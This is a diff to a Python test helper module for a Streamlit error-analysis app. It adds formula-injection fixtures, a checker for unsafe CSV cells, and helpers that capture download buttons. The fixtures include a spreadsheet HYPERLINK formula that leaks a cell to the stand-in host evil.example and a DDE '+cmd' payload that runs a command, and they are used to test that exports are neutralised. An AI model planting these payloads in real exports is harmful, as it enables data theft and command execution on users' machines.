@@ -8,13 +8,16 @@ the pages do, not how fast fragments rerun (the browser tests and benchmarks do 
 
 from __future__ import annotations
 
+import csv
 import io
 import wave
+from collections.abc import Callable
 from pathlib import Path
 
 import numpy as np
 import pandas as pd
 from PIL import Image
+from streamlit.runtime.media_file_manager import MediaFileManager
 from streamlit.testing.v1 import AppTest
 
 from erroranalysis.importing import read_dataset
@@ -91,3 +94,125 @@ def open_page(at: AppTest, page: str, **query: str) -> AppTest:
 
 def no_errors(at: AppTest) -> None:
     assert not at.exception, [e.message for e in at.exception]
+
+
+# ---------------------------------------------------------------------- formula payloads
+# What a spreadsheet runs as a formula when a cell begins with it (OWASP ASVS 1.2.10).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+# Names refuse control characters, so tags, reviewers and runs carry the printable ones.
+PRINTABLE_FORMULAS = FORMULAS[:4]
+FORMULA_DATASET = "@SUM(1)"
+FORMULA_RUN = "-2+3"
+REVIEWED_FORMULA_TAGS = ("=1+1", "+1+1", "-1+1", "@tag")
+
+
+def formula_frame() -> pd.DataFrame:
+    """Eight examples whose every text field begins like a formula: ids, labels, predictions,
+    text, a metadata column (named like one too) and dataset tags; ``snr_db`` holds negative
+    numbers, which must stay numbers."""
+    f = FORMULAS
+    return pd.DataFrame(
+        {
+            "id": [*f, "p1", "p2"],
+            "label": [f[0], f[1], f[2], f[3], "yes", "yes", f[0], "no"],
+            "prediction": [f[1], f[0], "yes", "yes", "no", "yes", f[0], "yes"],
+            "text": [*f, "plain", f[0]],
+            "@cmd": [*f, "x", f[1]],
+            "snr_db": [-3.5, 2.0, -1.0, 0.0, 4.0, 5.0, 6.0, -7.25],
+            "tags": [f[0], f[1], f[2], f[3], "", "", f[1], ""],
+        }
+    )
+
+
+def build_formula_project(folder: Path) -> Path:
+    """A project where a formula payload sits in every text field a table can show: the
+    dataset, run, source file and importer names, ids, labels, metadata, dataset and
+    reviewed tag names, tag definitions, reviewer names, notes and corrected labels."""
+    folder.mkdir(parents=True, exist_ok=True)
+    data = folder / "=1+1.parquet"
+    formula_frame().to_parquet(data, index=False)
+    db = folder / "formulas.db"
+    f = FORMULAS
+    with open_project(db) as project:
+        project.import_result(FORMULA_DATASET, read_dataset(data), run=FORMULA_RUN, actor=f[1])
+        for i, tag in enumerate(REVIEWED_FORMULA_TAGS):
+            project.define_tag(tag, actor=f[3], description=f[i], hlp=0.9)
+        reviews = [(f[0], f[0], f[4]), (f[1], f[1], f[5]), (f[2], f[3], f[0]), ("p1", f[2], f[1])]
+        for i, (example, reviewer, note) in enumerate(reviews):
+            project.set_tag(FORMULA_DATASET, example, REVIEWED_FORMULA_TAGS[i], actor=reviewer)
+            project.record_review(
+                FORMULA_DATASET, example, reviewer=reviewer, note=note, queue="error",
+                label_wrong=True, corrected_label=f[i],
+            )  # fmt: skip
+        # An untagged reviewed error: its row (snr_db -7.25) is in the untagged-errors table.
+        project.record_review(FORMULA_DATASET, "p2", reviewer=f[3], note=f[3], queue="error")
+    return db
+
+
+def unsafe_cells(text: str) -> list[str]:
+    """The cells of a CSV text that a spreadsheet would run as a formula: beginning with
+    ``=``, ``+``, ``@``, tab or carriage return, or with ``-`` unless the cell is a number."""
+    found = []
+    for row in csv.reader(io.StringIO(text, newline="")):
+        for cell in row:
+            if cell.startswith(FORMULA_STARTS) and not (cell[0] == "-" and _is_number(cell)):
+                found.append(cell)
+    return found
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+# ---------------------------------------------------------------------- downloads
+def record_downloads(monkeypatch) -> dict[str, tuple[str | None, Callable[[], object]]]:
+    """Keep every deferred download the app registers (file id -> file name, callable), so a
+    test can build the file a click would send: AppTest's runtime drops them after a run."""
+    made: dict[str, tuple[str | None, Callable[[], object]]] = {}
+    original = MediaFileManager.add_deferred
+
+    def add_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
+        file_id = original(self, data_callable, mimetype, coordinates, file_name, **kwargs)
+        made[file_id] = (file_name, data_callable)
+        return file_id
+
+    monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)
+    return made
+
+
+def downloads(at: AppTest, made: dict) -> dict[str, tuple[str, str]]:
+    """Every download button of the page: key -> (file name, the text a click sends)."""
+    files = {}
+    for button in at.get("download_button"):
+        name, build = made[button.proto.deferred_file_id]
+        data = build()
+        files[button.key] = (name, data.decode() if isinstance(data, bytes) else data)
+    return files
+
+
+# ---------------------------------------------------------------------- thousands of tags
+def add_many_tags(db: Path, n: int) -> list[str]:
+    """``n`` reviewed tags ("many 0000", ...) with an HLP, spread over the reviewed examples of
+    the speech project (every one of the 40 reviewed), so each has a marginal effect."""
+    names = [f"many {i:04d}" for i in range(n)]
+    with open_project(db) as project:
+        for i in range(N):
+            project.record_review(
+                DATASET, f"s{i:02d}", reviewer="setup", queue="error" if i % 4 == 0 else "correct",
+                tags=names[i::N],
+            )  # fmt: skip
+        for i, name in enumerate(names):
+            project.define_tag(name, actor="setup", hlp=0.9 + (i % 10) / 100)
+    return names
